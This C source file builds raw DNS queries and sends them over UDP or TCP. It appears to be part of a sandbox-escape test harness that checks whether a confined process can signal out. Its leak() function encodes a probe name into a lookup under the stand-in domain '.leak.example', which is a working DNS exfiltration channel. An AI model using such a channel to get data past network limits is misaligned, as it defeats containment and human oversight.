#include "dnsquery.h"

#include <poll.h>
#include <stdio.h>
#include <string.h>

void put8(struct message *m, unsigned v)
{
	m->text[m->len++] = (uint8_t)v;
}

void put16(struct message *m, unsigned v)
{
	put8(m, v >> 8);
	put8(m, v & 255);
}

void put_bytes(struct message *m, const void *text, size_t len)
{
	memcpy(m->text + m->len, text, len);
	m->len += len;
}

void put_label(struct message *m, const void *text, size_t len)
{
	put8(m, (unsigned)len);
	put_bytes(m, text, len);
}

void put_name(struct message *m, const char *dotted)
{
	while (*dotted) {
		size_t n = strcspn(dotted, ".");

		put_label(m, dotted, n);
		dotted += n + (dotted[n] == '.');
	}
	put8(m, 0);
}

void put_header(struct message *m, unsigned id, unsigned flags, unsigned questions, unsigned more)
{
	m->len = 0;
	put16(m, id);
	put16(m, flags);
	put16(m, questions);
	put16(m, 0);
	put16(m, 0);
	put16(m, more);
}

struct message *ask(struct message *m, const char *name, unsigned type)
{
	put_header(m, 0x1234, RECURSIVE, 1, 0);
	put_name(m, name);
	put16(m, type);
	put16(m, IN);
	return m;
}

/* PREFIX, the probe's name, SUFFIX. */
const char *named(const char *prefix, const char *suffix)
{
	static char name[300];

	want_net();
	snprintf(name, sizeof(name), "%s%s%s", prefix, escape_name, suffix);
	return name;
}

const char *leak(void)
{
	return named("", ".leak.example");
}

/* --- ways to a name server ----------------------------------------------------------------------------- */

/* Whoever judges it has done so when it is answered. */
int await(int s)
{
	struct pollfd p = { .fd = s, .events = POLLIN };
	char text[4096];

	if (poll(&p, 1, PATIENCE) == 1)
		(void)read(s, text, sizeof(text));
	close(s);
	return STOPPED;
}

int by_udp(const char *server, unsigned port, const struct message *m)
{
	struct sockaddr_in a = v4_at(server, port);
	int s = made(AF_INET, SOCK_DGRAM, 0);

	if (s < 0)
		return STOPPED;
	(void)DO(sendto, s, m->text, m->len, 0, (void *)&a, sizeof(a));
	return await(s);
}

int by_tcp(const char *server, unsigned port, const struct message *m)
{
	struct sockaddr_in a = v4_at(server, port);
	int s = made(AF_INET, SOCK_STREAM, 0);
	struct message whole = { .len = 0 };

	put16(&whole, (unsigned)m->len);
	put_bytes(&whole, m->text, m->len);
	if (s < 0 || DO(connect, s, (void *)&a, sizeof(a)) < 0)
		return STOPPED;
	(void)DO(sendto, s, whole.text, whole.len, MSG_NOSIGNAL, NULL, 0);
	return await(s);
}

void look_up(const char *name, unsigned type)
{
	struct sockaddr_in a = v4_at(SERVER, DNS_PORT);
	struct pollfd p = { .events = POLLIN };
	struct message m;

	ask(&m, name, type);
	p.fd = made(AF_INET, SOCK_DGRAM, 0);
	if (p.fd < 0 || DO(connect, p.fd, (void *)&a, sizeof(a)) < 0)
		return;
	(void)write(p.fd, m.text, m.len);
	if (poll(&p, 1, 1000) == 1)
		(void)read(p.fd, m.text, sizeof(m.text));
	close(p.fd);
}
